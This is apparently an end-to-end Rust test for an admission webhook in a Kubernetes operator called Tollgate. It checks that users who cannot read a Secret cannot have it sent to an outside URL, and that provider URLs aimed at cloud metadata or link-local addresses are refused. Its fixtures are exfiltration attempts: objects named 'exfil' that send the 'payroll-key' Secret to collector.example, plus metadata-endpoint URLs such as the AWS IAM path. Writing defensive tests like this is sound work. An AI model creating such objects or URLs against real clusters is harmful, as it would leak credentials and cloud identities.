//! Whoever may write an `MCPServer` or a `ModelProvider` could have any Secret of the namespace
//! sent to a URL of their choosing: Tollgate reads what such an object names with identities
//! every namespace shares. So admission asks the API server whether the writer may `get` each
//! Secret and ConfigMap named, and refuses provider URLs that are cloud metadata or link-local.

mod common;

use anyhow::{Result, ensure};
use common::operator;
use tollgate_e2e::{ControlPlane, User};

fn server(name: &str, secret: &str) -> String {
    format!(
        "apiVersion: tollgate.dev/v1alpha1\nkind: MCPServer\nmetadata: {{name: {name}}}\nspec:\n  url: https://collector.example/mcp\n  headers: [{{name: Authorization, secretKeyRef: {{name: {secret}, key: token}}}}]\n"
    )
}

fn provider(name: &str, url: &str, secret: &str) -> String {
    format!(
        "apiVersion: tollgate.dev/v1alpha1\nkind: ModelProvider\nmetadata: {{name: {name}}}\nspec:\n  type: openai\n  baseURL: \"{url}\"\n  credentials: {{secretKeyRef: {{name: {secret}, key: token}}}}\n  models: [{{name: m}}]\n"
    )
}

#[test]
fn only_someone_who_may_read_a_secret_may_have_tollgate_send_it_and_never_to_metadata() -> Result<()> {
    operator();
    let cp = ControlPlane::shared();
    let ns = cp.create_namespace("references")?;
    cp.apply(User::Admin, &ns, "apiVersion: v1\nkind: Secret\nmetadata: {name: payroll-key}\nstringData: {token: the-payroll-teams-secret}\n")?;
    // The outsider may write Tollgate's objects here, and read no Secret.
    cp.kubectl_ok(
        User::Admin,
        [
            "create",
            "role",
            "tollgate-writer",
            "-n",
            &ns,
            "--verb=get,list,create,update,patch",
            "--resource=mcpservers.tollgate.dev,modelproviders.tollgate.dev",
        ],
    )?;
    cp.kubectl_ok(User::Admin, ["create", "rolebinding", "tollgate-writer", "-n", &ns, "--role=tollgate-writer", "--user=outsider"])?;
    let webhook = "admission webhook \"references.tollgate.dev\" denied the request";
    let refused = |what: &str, out: std::process::Output, says: &str| -> Result<()> {
        let err = String::from_utf8_lossy(&out.stderr);
        ensure!(!out.status.success() && err.contains(webhook) && err.contains(says), "{what}: {err}");
        Ok(())
    };
    refused("a server naming a Secret", cp.apply_output(User::Outsider, &ns, &server("exfil", "payroll-key"))?, "outsider may not get secret payroll-key")?;
    refused(
        "a provider naming a Secret",
        cp.apply_output(User::Outsider, &ns, &provider("exfil", "https://collector.example/v1", "payroll-key"))?,
        "outsider may not get secret payroll-key",
    )?;
    for (name, kind) in [("exfil", "mcpserver"), ("exfil", "modelprovider")] {
        ensure!(!cp.kubectl(User::Admin, ["get", kind, name, "-n", &ns])?.status.success(), "{kind} {name} was stored");
    }
    // Metadata and link-local addresses, whoever writes them.
    for (i, url) in
        ["http://169.254.169.254/latest/meta-data/iam", "https://metadata.google.internal/computeMetadata/v1", "https://[fe80::1]/v1"].iter().enumerate()
    {
        refused(url, cp.apply_output(User::Admin, &ns, &provider(&format!("meta-{i}"), url, "payroll-key"))?, "metadata")?;
    }
    // Once the outsider may read the Secret, naming it is theirs to do.
    cp.kubectl_ok(User::Admin, ["create", "role", "payroll-reader", "-n", &ns, "--verb=get", "--resource=secrets", "--resource-name=payroll-key"])?;
    cp.kubectl_ok(User::Admin, ["create", "rolebinding", "payroll-reader", "-n", &ns, "--role=payroll-reader", "--user=outsider"])?;
    let out = cp.apply_output(User::Outsider, &ns, &server("allowed", "payroll-key"))?;
    ensure!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
    Ok(())
}
